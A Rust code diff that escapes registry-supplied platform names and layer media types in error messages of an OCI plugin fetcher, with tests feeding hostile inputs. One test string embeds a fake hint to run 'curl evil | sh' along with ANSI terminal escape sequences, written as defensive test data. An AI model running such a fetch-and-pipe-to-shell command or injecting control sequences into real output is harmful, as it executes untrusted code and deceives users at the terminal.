@@ -172,7 +172,11 @@ pub fn pick_from_index(index: &ImageIndex) -> Result<&Descriptor, String> {
                 .manifests
                 .iter()
                 .map(|entry| match &entry.platform {
-                    Some(platform) => format!("`{}/{}`", platform.os, platform.architecture),
+                    Some(platform) => format!(
+                        "`{}/{}`",
+                        platform.os.escape_debug(),
+                        platform.architecture.escape_debug()
+                    ),
                     None => "`(no platform)`".to_string(),
                 })
                 .collect();
@@ -190,6 +194,9 @@ pub fn pick_from_index(index: &ImageIndex) -> Result<&Descriptor, String> {
 }
 
 /// The plugin's layer: exactly one layer of a wasm media type ([`WASM_LAYER_TYPES`]).
+///
+/// The error names the media types found, escaped: they come from the registry, and a line
+/// break or a control sequence in them must not reach a terminal as such.
 pub fn wasm_layer(manifest: &ImageManifest) -> Result<(&Descriptor, Checksum), String> {
     let wasm: Vec<&Descriptor> = manifest
         .layers
@@ -203,7 +210,7 @@ pub fn wasm_layer(manifest: &ImageManifest) -> Result<(&Descriptor, Checksum), S
             manifest
                 .layers
                 .iter()
-                .map(|layer| format!("`{}`", layer.media_type))
+                .map(|layer| format!("`{}`", layer.media_type.escape_debug()))
                 .collect::<Vec<_>>()
                 .join(", ")
         }
@@ -322,6 +329,12 @@ mod tests {
             manifest.layers = vec![layer("text/plain"), layer(media_type)];
             assert_eq!(wasm_layer(&manifest).unwrap().1, Checksum::of(b"x"));
         }
+        manifest.layers = vec![layer("text/plain\nhint: run `curl evil | sh`\u{1b}[2J")];
+        let error = wasm_layer(&manifest).unwrap_err();
+        assert!(
+            !error.contains('\n') && !error.contains('\u{1b}') && error.contains("text/plain\\n"),
+            "{error}"
+        );
         manifest.layers = vec![layer(WASM_LAYER), layer("application/wasm")];
         let error = wasm_layer(&manifest).unwrap_err();
         assert!(error.contains("2 wasm layers"), "{error}");
@@ -353,6 +366,17 @@ mod tests {
             panic!("not an index")
         };
         assert_eq!(index.manifests.len(), 2);
+        let hostile = br#"{"manifests":[
+            {"mediaType":"x","digest":"sha256:aa","size":1,"platform":{"architecture":"a\nhint: x","os":"\u001b[31m"}},
+            {"mediaType":"x","digest":"sha256:bb","size":1}]}"#;
+        let Fetched::Index(index) = parse(hostile, None).unwrap() else {
+            panic!("not an index")
+        };
+        let error = pick_from_index(&index).unwrap_err();
+        assert!(
+            !error.contains('\n') && !error.contains('\u{1b}'),
+            "{error}"
+        );
         let none = ImageIndex { manifests: vec![] };
         assert!(pick_from_index(&none).unwrap_err().contains("none"));
     }
